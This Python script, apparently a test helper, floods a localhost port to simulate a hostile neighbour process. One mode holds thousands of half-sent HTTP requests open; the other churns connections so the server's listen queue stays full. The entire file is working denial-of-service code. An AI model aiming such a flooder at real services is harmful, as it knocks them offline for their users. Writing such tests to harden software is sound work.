"""Flood a port with plain connections, as another run's `bash` can (attack F5): keep as many
half-sent HTTP requests open as the port lets us, opening a new one for each it closes.

Run as a script: `python _flood.py PORT [churn]`. Prints `flooding` once the first batch is
open, then runs until killed. Stdlib only, so any user's interpreter can run it.

`churn` instead connects and closes at once, as fast as it can: each connection still waits
in the listen queue until the child accepts it, and the child accepts them no faster than
they come, so the queue stays full and most other connects are dropped."""

from __future__ import annotations

import resource
import selectors
import socket
import sys

BATCH = 200  # connections opened between two looks at the ones open
REQUEST = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"  # never finished


def flood(port: int) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    most = min(hard - 64, 4000)
    selector = selectors.DefaultSelector()
    held: set[socket.socket] = set()
    announced = False
    while True:
        for _ in range(min(BATCH, most - len(held))):
            sock = socket.socket()
            sock.setblocking(False)
            try:
                sock.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
                break
            selector.register(sock, selectors.EVENT_WRITE)
            held.add(sock)
        if not announced:
            print("flooding", flush=True)
            announced = True
        for key, events in selector.select(timeout=0.05):
            sock = key.fileobj  # type: ignore[assignment]
            try:
                if events & selectors.EVENT_WRITE:
                    sock.send(REQUEST)
                    selector.modify(sock, selectors.EVENT_READ)
                elif not sock.recv(4096):
                    raise OSError("closed")
            except OSError:
                selector.unregister(sock)
                held.discard(sock)
                sock.close()


def churn(port: int) -> None:
    for opened in range(sys.maxsize):
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.connect(("127.0.0.1", port))
        except OSError:  # in progress, or dropped for a full queue: the next one
            pass
        sock.close()
        if opened == BATCH:
            print("flooding", flush=True)


if __name__ == "__main__":
    (churn if sys.argv[2:] == ["churn"] else flood)(int(sys.argv[1]))
